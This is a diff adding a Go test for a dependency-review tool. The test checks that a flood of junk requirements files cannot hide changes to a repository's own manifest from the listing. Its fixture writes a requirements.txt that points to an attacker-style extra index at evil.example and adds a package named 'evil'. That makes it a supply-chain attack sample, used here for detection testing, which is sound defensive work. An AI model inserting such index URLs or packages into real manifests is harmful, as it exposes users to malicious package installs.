@@ -245,3 +245,73 @@ func TestListReadsRequirementsFilesByTheirUsualNames(t *testing.T) {
 		})
 	}
 }
+
+// TestListReadsTheRepositorysFilesFirst: a patch that adds hundreds of requirements files
+// does not push the repository's own manifest past the limit of files read. Before, the 201
+// files sorted first and requirements.txt was not read in the patched tree: its new index and
+// package went unlisted and requests was said to be removed, with only a note.
+func TestListReadsTheRepositorysFilesFirst(t *testing.T) {
+	t.Parallel()
+	junk := func() map[string]string {
+		files := map[string]string{}
+		for i := range maxFiles + 1 {
+			files[fmt.Sprintf("a/requirements-%03d.txt", i)] = "six==1.16.0\n"
+		}
+		return files
+	}
+	t.Run("ChangedManifest", func(t *testing.T) {
+		t.Parallel()
+		rep := listOf(t, map[string]string{"requirements.txt": "requests==2.31.0\n"}, func(dir string) {
+			files := junk()
+			files["requirements.txt"] = "--extra-index-url https://evil.example/simple\nrequests==2.31.0\nevil==1.0\n"
+			gittest.Write(t, dir, files)
+		})
+		var got []string
+		for _, c := range rep.Changes {
+			if c.File == "requirements.txt" {
+				got = append(got, short([]Change{c}))
+			}
+		}
+		if want := "requirements.txt PyPI evil added ->1.0\n"; strings.Join(got, "") != want {
+			t.Errorf("changes of requirements.txt %q, want %q", got, want)
+		}
+		if got, want := settingsOf(rep), "requirements.txt added --extra-index-url https://evil.example/simple\n"; got != want {
+			t.Errorf("settings %q, want %q", got, want)
+		}
+	})
+	// A file that only an unchanged manifest of the repository includes is read through it.
+	t.Run("IncludedFile", func(t *testing.T) {
+		t.Parallel()
+		rep := listOf(t, map[string]string{"requirements.txt": "-r more.txt\n", "more.txt": "requests==2.31.0\n"}, func(dir string) {
+			files := junk()
+			files["more.txt"] = "requests==2.25.0\n"
+			gittest.Write(t, dir, files)
+		})
+		found := false
+		for _, c := range rep.Changes {
+			found = found || c.File == "more.txt" && short([]Change{c}) == "more.txt PyPI requests changed 2.31.0->2.25.0\n"
+		}
+		if !found {
+			t.Errorf("requests' change in more.txt is missing (%d changes)", len(rep.Changes))
+		}
+	})
+	// Past the limit, what was not read is unread, each file with why; never "removed".
+	t.Run("PastTheLimit", func(t *testing.T) {
+		t.Parallel()
+		base, patched := map[string]string{}, map[string]string{}
+		for i := range maxFiles + 1 {
+			base[fmt.Sprintf("b/requirements-%03d.txt", i)] = "six==1.16.0\n"
+			patched[fmt.Sprintf("b/requirements-%03d.txt", i)] = "six==1.16.0\nevil==1.0\n"
+		}
+		rep := listOf(t, base, func(dir string) { gittest.Write(t, dir, patched) })
+		for _, c := range rep.Changes {
+			if c.Kind == Removed {
+				t.Errorf("%s", short([]Change{c}))
+			}
+		}
+		if got, want := unreadOf(rep), "b/requirements-200.txt: over 200 dependency files were read in the patched tree; this one was not\n"+
+			"b/requirements-200.txt: over 200 dependency files were read at the base commit; this one was not [base]\n"; got != want {
+			t.Errorf("unread\n%swant\n%s", got, want)
+		}
+	})
+}
